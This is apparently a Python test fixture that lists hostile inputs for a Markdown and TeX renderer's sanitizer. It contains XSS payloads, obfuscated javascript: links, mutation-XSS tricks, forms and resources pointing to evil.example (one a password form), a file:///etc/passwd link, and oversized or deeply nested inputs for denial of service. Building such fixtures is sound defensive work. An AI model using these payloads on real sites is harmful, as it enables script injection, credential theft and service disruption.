"""Answers that are meant to do harm, by what they try; those whose last word is "end" must show it."""

from __future__ import annotations

HOSTILE = {
    "script": "<script>document.title = 'taken'</script>",
    "script in a list": "- a\n\n  <script>\n  document.title = 'taken'\n  </script>",
    "image with a handler": "<img src=x onerror=\"document.title = 'taken'\">",
    "svg": "<svg onload=\"document.title = 'taken'\"><a xlink:href='javascript:1'><text>x</text></a></svg>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "nested mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "style": "<style>* { display: none }</style> seen",
    "link element": "<link rel=stylesheet href=https://evil.example/a.css>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "base": "<base href=https://evil.example/>",
    "frame": "<iframe src=https://evil.example/></iframe><object data=https://evil.example/></object>",
    "form": "<form action=https://evil.example/><input name=password><button>Send</button></form>",
    "clobbering": "<img name=getElementById><form id=log><input name=children></form><a id=spoken name=made>",
    "comment": "<!-- hidden --> <!--> <![CDATA[ x ]]> <?php x ?>",
    "javascript": "[a](javascript:alert(1)) <javascript:alert(1)> [b](JaVaScRiPt:alert(1))",
    "javascript with entities": "[a](java&#115;cript:alert(1)) [b](&#x6A;avascript:alert(1)) "
    "[c](java&Tab;script:alert(1))",
    "javascript with spaces": "[a]( javascript:alert(1)) [b](<java\tscript:alert(1)>) "
    "[c](\x01javascript:alert(1))",
    "javascript by reference": "[a]\n\n[a]: javascript:alert(1)\n\n[b]\n\n[b]: <java\nscript:alert(1)>",
    "other schemes": "[a](data:text/html,<script>alert(1)</script>) [b](vbscript:x) "
    "[c](file:///etc/passwd) [d](blob:x)",
    "relative": "[a](//evil.example/) [b](/index.html) [c](#log) [d](?ranks=2)",
    "remote image": "![x](https://evil.example/a.png) ![y](//evil.example/b.png) ![z][r]\n\n"
    "[r]: https://evil.example/c.png",
    "image in a title": "![x](https://evil.example/a.png \"t' onerror='alert(1)\")",
    "image of data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "breaking out of a link": '[a](https://evil.example/"onmouseover="alert(1)) '
    "[b](https://evil.example/'><img/src=x>)",
    "breaking out of a label": '```"><img/src=x/onerror=alert(1)>\ncode\n```\n\n'
    '``` python" onclick="alert(1)\nx\n```',
    "code with markup": "`<img src=x onerror=alert(1)>` \n\n    <script>alert(1)</script>\n\n"
    "```html\n<script>alert(1)</script>\n```",
    "table with markup": "| <img src=x onerror=alert(1)> |\n| - |\n| <script>alert(1)</script> |",
    "tex": r"$\href{javascript:alert(1)}{x}$ $\includegraphics{https://evil.example/a.png}$ "
    r"$\class{evil}{x}$ $\id{log}{x}$",
    "tex with markup": r"$\text{<img src=x onerror=alert(1)>}$ $<script>alert(1)</script>$ "
    r"$$</math><img src=x onerror=alert(1)>$$",
    "tex with style": r"$\style{color:red;background:url(https://evil.example/)}{x}$ "
    r"$\color{red;background:url(//evil.example)} x$",
    "tex without end": r"$\def\a{\a\a}\a$ $\def\b{\b}\b$ $\rule{99999em}{99999em}$ $\kern{99999em}x$",
    "deep tex": "$" + "{" * 480 + "x" + "}" * 480 + "$",
    "prototypes": "__proto__ constructor [__proto__] [constructor]: x\n\n[__proto__]: https://example.org/\n\n"
    "```constructor\nx\n```\n\n```__proto__\ny\n```",
    "bidirectional": "abc \u202egnp.exe\u202c \u2066x\u2069 \u200f \u202d end",
    "controls": "a\x00b\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85\ufeff\ufffe\uffff end",
    "half of a character": "a\ud83d b \ude00",
    "line ends": "a\rb\r\nc\u2028d\u2029e",
    "deep quotation": ">" * 10_000 + " end",
    "deep list": "- " * 10_000 + "end",
    "deep lists in lines": "\n".join(" " * (2 * depth) + "- item" for depth in range(200)) + " end",
    "brackets": "[" * 20_000 + " end",
    "emphasis": "*a _b " * 5_000 + "end",
    "backticks": " ".join("`" * length for length in range(1, 250)) + " end",
    "dollars": "$a " * 10_000 + "end",
    "open formulas": "\\[\n" * 10_000 + "end",
    "wide table": "|a" * 1000 + "|\n" + "|-" * 1000 + "|\n" + "|b" * 1000 + "|",
    "one long line": "x" * 1_000_000 + " end",
    "many lines": "- x\n" * 100_000 + "end",
}
